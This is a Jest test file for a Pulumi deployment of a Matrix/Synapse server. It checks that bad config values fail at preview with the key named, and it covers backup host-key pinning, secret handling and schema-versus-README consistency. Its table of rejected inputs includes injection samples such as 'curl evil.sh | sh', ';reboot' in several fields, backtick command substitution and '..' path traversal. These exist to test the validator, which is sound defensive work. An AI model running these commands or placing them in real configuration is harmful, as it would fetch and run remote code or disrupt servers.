// Bad input fails at `pulumi preview`, with the key named, before any resource exists: so nothing a
// user typed wrongly can reach a server or a shell.
import * as fs from "fs";
import * as path from "path";
import * as yaml from "js-yaml";
import { BASE_CONFIG, ENCRYPTED_SSH_KEY, SECRETS, runProgram, lastRegistered } from "./harness";
import { mapSource, readConfig } from "../components/config";
import { BACKUP_KNOWN_HOSTS, BACKUP_PASSPHRASE, backupFiles } from "../components/backups";
import { statusCheckFiles } from "../components/statusCheck";

type Case = [what: string, key: string, value: string | undefined, secret: boolean];

const BAD: Case[] = [
    ["a domain with a scheme", "domain", "https://phillymesh.net", false],
    ["a domain with a shell command", "domain", "phillymesh.net;reboot", false],
    ["an upper-case domain with a trailing dot", "domain", "PhillyMesh.net.", false],
    ["a one-label domain", "domain", "localhost", false],
    ["a version with shell characters", "synapseVersion", "1.163.2 && curl evil.sh | sh", false],
    ["a version range instead of a version", "synapseVersion", ">=1.160", false],
    ["a 'v'-prefixed Element version", "elementVersion", "v1.12.5", false],
    ["a CIDR with a bad prefix", "sshAllowedCidrs", '["10.0.0.0/33"]', false],
    ["a CIDR that is not an address", "sshAllowedCidrs", '["my-office"]', false],
    ["no address at all for SSH (it would shut out every later deploy)", "sshAllowedCidrs", "[]", false],
    ["a session lifetime without a unit", "sessionLifetime", "90", false],
    ["a media retention in months", "remoteMediaRetention", "3mo", false],
    ["a forgotten-room retention with a space", "forgottenRoomRetention", "28 d", false],
    ["a negative room complexity limit", "remoteRoomComplexityLimit", "-1", false],
    ["a journal cap too small to hold a day", "journalMaxMb", "1", false],
    ["a disk alert at 100% (the disk is full before it fires)", "diskAlertPercent", "100", false],
    ["a disk alert with a percent sign", "diskAlertPercent", "85%", false],
    ["a disk alert so low it always fires", "diskAlertPercent", "5", false],
    ["a memory alert at 100% (it never fires)", "alertMemoryPercent", "100", false],
    ["a memory alert with a percent sign", "alertMemoryPercent", "90%", false],
    ["a load alert that is not a number", "alertLoad5", "high", false],
    ["a load alert of zero (it always fires)", "alertLoad5", "0", false],
    ["a negative load alert", "alertLoad5", "-3", false],
    ["a monitoring switch that is not true/false", "monitoringAlerts", "yes", false],
    ["a host firewall setting that is not true/false", "hostFirewall", "on", false],
    ["a list given as a plain string", "federationIpAllowlist", "10.0.0.0/8", false],
    ["an e-mail without a domain", "adminEmail", "hello@", false],
    ["an e-mail with a quote", "adminEmail", "a'b@phillymesh.net", false],
    ["a negative swap size", "swapSizeMb", "-1", false],
    ["a fractional volume size", "volumeSizeGb", "1.5", false],
    ["a zero upload size", "maxUploadSizeMb", "0", false],
    ["a cache factor that is not a number", "cacheFactor", "lots", false],
    ["an unknown hosting kind", "hosting", "aws", false],
    ["an unknown DNS provider", "dns", "route53", false],
    ["an unknown registration mode", "registration", "everyone", false],
    ["a boolean that is not true/false", "allowGuestAccess", "yes", false],
    ["an admin name with upper case and spaces", "adminUser", "The Admin", false],
    ["a region with a space", "doRegion", "nyc 3", false],
    ["a short fingerprint", "elementSigningKeyFingerprint", "A179B100", false],
    ["a download URL with a backtick", "elementDownloadUrl", "https://example.org/`id`/element-v{version}.tar.gz", false],
    ["an ACME URL that is not a URL", "acmeServer", "letsencrypt", false],
    ["a package index over plain HTTP", "pipIndexUrl", "http://pypi.example.org/simple/", false],
    ["a package index that is not a URL", "pipIndexUrl", "pypi.org/simple", false],
    ["an advisory feed over plain HTTP", "advisoryFeedUrl", "http://pypi.org/pypi", false],
    ["a relative data directory", "dataDir", "data", false],
    ["a data directory with '..'", "dataDir", "/mnt/../etc", false],
    ["a public key that is not one", "sshPublicKey", "AAAA-not-a-key", false],
    ["a zone id of the wrong shape", "cloudflareZoneId", "phillymesh.net", false],
    ["a pool larger than PostgreSQL allows", "databasePoolMax", "40", false],
    ["a cache memory ceiling below what Synapse needs", "synapseCacheMemoryMb", "8", false],
    ["an adopt path with a shell character", "adoptSqliteDatabase", "/root/homeserver.db;reboot", false],
    ["a relative adopt path", "adoptMediaStore", "media_store", false],
    ["a database to adopt without the old signing key", "adoptPostgresDump", "/mnt/matrix_data/adopt/synapse.sql", false],
    ["an adopt path inside where the adopted data goes", "adoptMediaStore", "/mnt/matrix_data/synapse/media", false],
    ["a backup target with a shell command", "backupRsyncTarget", "u@h:/x;reboot", false],
    ["a backup count of zero", "backupKeep", "0", false],
    ["a short backup passphrase", "backupPassphrase", "short", true],
    ["a backup host key that is a fingerprint", "backupRsyncHostKey", "SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s", false],
    ["a backup host key without a target", "backupRsyncHostKey", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdd3M6kZ0cD5y7cYt5Jz2Qk0hXxQ4y8b4pR0m3cL9aF", false],
    ["a missing Synapse version", "synapseVersion", undefined, false],
    ["a missing domain", "domain", undefined, false],
    ["a missing admin password", "adminPassword", undefined, true],
    ["a short registration secret", "registrationSharedSecret", "tooshort", true],
    ["a private key that is not PEM", "sshPrivateKey", "hunter2", true],
    ["a private key with a passphrase (Pulumi's SSH client cannot use it)", "sshPrivateKey", ENCRYPTED_SSH_KEY, true],
    ["an account key that is neither a fingerprint nor an id", "doSshKey", "my laptop key", false],
    ["a new public key and an account key both", "doSshKey", "d7:60:b8:58:4d:11:12:8e:bf:7f:90:b2:e1:01:77:a1", false],
    ["a CAA issuer given as a URL", "caaIssuer", "https://letsencrypt.org", false],
    ["a missing Cloudflare DNS token with DNS-01", "cloudflareDnsToken", undefined, true],
];

describe("every kind of wrong value is rejected at preview, naming the key", () => {
    test.each(BAD)("%s (%s)", async (_what, key, value, secret) => {
        const config = { ...BASE_CONFIG };
        const secrets = { ...SECRETS };
        const target: Record<string, string> = secret ? secrets : config;
        if (value === undefined) delete target[key];
        else target[key] = value;

        await expect(runProgram(config, secrets, { preview: true })).rejects.toThrow(new RegExp(`phillymesh-chat:${key}\\b`));
        // Nothing was declared: no droplet, no record, no command carrying the bad value.
        expect(lastRegistered.filter((r) => r.type !== "pulumi:pulumi:Stack")).toEqual([]);
    });

    test("an off-site backup target needs the target's host key, pinned for the copy", async () => {
        const config = { ...BASE_CONFIG, backupRsyncTarget: "backup@nas.example.org:/srv/backups/chat" };
        await expect(runProgram(config, SECRETS, { preview: true })).rejects.toThrow(/phillymesh-chat:backupRsyncHostKey is required with backupRsyncTarget/);
        const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdd3M6kZ0cD5y7cYt5Jz2Qk0hXxQ4y8b4pR0m3cL9aF";
        const files = backupFiles("/mnt/matrix_data", readConfig(mapSource({ ...config, backupRsyncHostKey: key }, SECRETS)).backups);
        expect(files.find((f) => f.path === BACKUP_KNOWN_HOSTS)).toMatchObject({ content: `nas.example.org ${key}`, mode: "0644", owner: "root:root" });
        const script = files.find((f) => f.path === "/usr/local/sbin/phillymesh-chat-backup")!.content as string;
        expect(script).toContain("StrictHostKeyChecking=yes -o UserKnownHostsFile=/etc/phillymesh-chat/backup_known_hosts");
        expect(script).not.toMatch(/accept-new/);
        expect(script).toMatch(/rsync -a --ignore-existing /);
        expect(backupFiles("/mnt/matrix_data", readConfig(mapSource(BASE_CONFIG, SECRETS)).backups).map((f) => f.path)).not.toContain(BACKUP_KNOWN_HOSTS);
    });

    test("a backup passphrase: encrypted backups, the passphrase root's and 0600; none: plain backups, no passphrase file", () => {
        const pass = "correct horse battery staple";
        const withPass = backupFiles("/mnt/matrix_data", readConfig(mapSource(BASE_CONFIG, { ...SECRETS, backupPassphrase: pass })).backups);
        expect(withPass.find((f) => f.path === BACKUP_PASSPHRASE)).toMatchObject({ mode: "0600", owner: "root:root" });
        expect(withPass.find((f) => f.path === "/etc/phillymesh-chat/backup.env")!.content).toMatch(/^BACKUP_ENCRYPT=1$/m);
        const plain = backupFiles("/mnt/matrix_data", readConfig(mapSource(BASE_CONFIG, SECRETS)).backups);
        expect(plain.map((f) => f.path)).not.toContain(BACKUP_PASSPHRASE);
        expect(plain.find((f) => f.path === "/etc/phillymesh-chat/backup.env")!.content).toMatch(/^BACKUP_ENCRYPT=0$/m);
    });

    test("diskAlertPercent: 85 unless set, and the status check is rendered with it", () => {
        expect(readConfig(mapSource(BASE_CONFIG, SECRETS)).tls.diskAlertPercent).toBe(85);
        const cfg = readConfig(mapSource({ ...BASE_CONFIG, diskAlertPercent: "92" }, SECRETS));
        expect(cfg.tls.diskAlertPercent).toBe(92);
        const script = statusCheckFiles(cfg.dataDir, cfg.tls.diskAlertPercent).find((f) => f.path === "/usr/local/sbin/phillymesh-chat-status")!;
        expect(script.content).toContain("DISK_ALERT_PERCENT='92'");
        expect(() => readConfig(mapSource({ ...BASE_CONFIG, diskAlertPercent: "100" }, SECRETS))).toThrow(
            /phillymesh-chat:diskAlertPercent must be a whole number from 50 to 99/,
        );
    });

    test("a secret's value is never echoed in the error", async () => {
        const secrets = { ...SECRETS, adminPassword: "short" };
        await expect(runProgram(BASE_CONFIG, secrets, { preview: true })).rejects.toThrow(/phillymesh-chat:adminPassword must be at least 12 characters$/m);
    });

    test("a secret stored in plain text is refused", async () => {
        const err = await runProgram(
            { ...BASE_CONFIG, cloudflareDnsToken: SECRETS.cloudflareDnsToken },
            (({ cloudflareDnsToken, ...rest }) => (void cloudflareDnsToken, rest))(SECRETS),
            { preview: true },
        ).catch((e: Error) => e);
        expect(String(err)).toContain("phillymesh-chat:cloudflareDnsToken must be stored encrypted");
        expect(String(err)).not.toContain(SECRETS.cloudflareDnsToken);
    });

    test("all problems are reported at once", async () => {
        const config = { ...BASE_CONFIG, domain: "bad domain", swapSizeMb: "-5", synapseVersion: "latest" };
        const err = await runProgram(config, SECRETS, { preview: true }).catch((e: Error) => e);
        expect(String(err)).toMatch(/3 problems/);
        for (const key of ["domain", "swapSizeMb", "synapseVersion"]) expect(String(err)).toContain(`phillymesh-chat:${key}`);
    });

    test("a plain-HTTP package index is refused, saying why; an https one (a mirror on its own port) passes", async () => {
        for (const url of ["http://pypi.example.org/simple/", "HTTP://10.0.0.1:3141/simple/"]) {
            const err = await runProgram({ ...BASE_CONFIG, pipIndexUrl: url }, SECRETS, { preview: true }).catch((e: Error) => e);
            expect(String(err)).toContain("phillymesh-chat:pipIndexUrl must be an https:// URL");
            expect(String(err)).toContain("over plain HTTP lets anyone on the path between the server and the index swap Synapse's code");
        }
        await expect(runProgram({ ...BASE_CONFIG, pipIndexUrl: "https://pypi.test:3143/simple/" }, SECRETS, { preview: true })).resolves.toBeDefined();
    });

    test("a plain-HTTP advisory feed is refused, saying why; an empty one turns the audit off", async () => {
        const err = await runProgram({ ...BASE_CONFIG, advisoryFeedUrl: "http://pypi.org/pypi" }, SECRETS, { preview: true }).catch((e: Error) => e);
        expect(String(err)).toContain("phillymesh-chat:advisoryFeedUrl must be an https:// PyPI JSON API");
        expect(String(err)).toContain("or empty to turn the daily advisory audit off");
        await expect(runProgram({ ...BASE_CONFIG, advisoryFeedUrl: "" }, SECRETS, { preview: true })).resolves.toBeDefined();
    });

    test("HTTP-01 without the apex on this server is refused: the certificate must cover the server name", async () => {
        const config = { ...BASE_CONFIG, acmeChallenge: "http" };
        await expect(runProgram(config, SECRETS, { preview: true })).rejects.toThrow(/phillymesh-chat:apexOnServer must be true/);
    });

    test("open registration without a verification method is refused, as Synapse would", async () => {
        const config = { ...BASE_CONFIG, registration: "open" };
        await expect(runProgram(config, SECRETS, { preview: true })).rejects.toThrow(
            /phillymesh-chat:recaptchaPublicKey is required when registration is open/,
        );
    });
});

describe("the config schema", () => {
    const project = yaml.load(fs.readFileSync(path.join(__dirname, "..", "Pulumi.yaml"), "utf8")) as { config: Record<string, any> };
    // Every reader in components/config (index.ts, and database.ts for database: managed).
    const configDir = path.join(__dirname, "..", "components", "config");
    const source = fs
        .readdirSync(configDir)
        .filter((f) => f.endsWith(".ts"))
        .map((f) => fs.readFileSync(path.join(configDir, f), "utf8"))
        .join("\n");

    test("every key the program reads is declared, with a type and a description", () => {
        const read = [...source.matchAll(/r\.(?:required|optional|secret|optionalSecret|int|decimal|bool|list|oneOf)(?:<[^>]*>)?\(\s*"([A-Za-z0-9]+)"/g)].map(
            (m) => m[1],
        );
        expect(read.length).toBeGreaterThan(40);
        for (const key of read) {
            expect(project.config[key]).toBeDefined();
            expect(project.config[key].type).toMatch(/^(string|integer|boolean|array)$/);
            expect(project.config[key].description.length).toBeGreaterThan(10);
        }
        // ...and every declared key is read.
        expect(Object.keys(project.config).sort()).toEqual([...new Set(read)].sort());
    });

    test("every secret is declared secret, and the prod stack holds no plain secret", () => {
        // Required secrets are declared secret; optional ones (with an empty default) cannot be, and
        // the program refuses them in plain text instead (tested below).
        for (const key of Object.keys(SECRETS)) expect(project.config[key].secret === true || project.config[key].default === "").toBe(true);
        const prod = fs.readFileSync(path.join(__dirname, "..", "Pulumi.prod.yaml"), "utf8");
        for (const key of Object.keys(project.config).filter((k) => project.config[k].secret)) {
            const line = prod.split("\n").find((l) => l.includes(`phillymesh-chat:${key}:`));
            if (line !== undefined) expect(prod).toMatch(new RegExp(`phillymesh-chat:${key}:\\s*\\n\\s+secure:`));
        }
    });

    test("the README documents every key with its type and its default as Pulumi.yaml has them", () => {
        const readme = fs.readFileSync(path.join(__dirname, "..", "README.md"), "utf8");
        const shown = (d: unknown) => (d === undefined ? "*required*" : `\`${typeof d === "string" ? d || '""' : JSON.stringify(d)}\``);
        for (const [key, spec] of Object.entries(project.config) as [string, { type: string; default?: unknown }][]) {
            const row = readme.split("\n").find((l) => l.startsWith(`| \`${key}\``));
            expect({ key, row }).toEqual({ key, row: expect.stringMatching(/./) });
            const cells = row!.split(" | ");
            expect({ key, type: cells[1], default: cells[2] }).toEqual({ key, type: spec.type, default: shown(spec.default) });
        }
    });
});
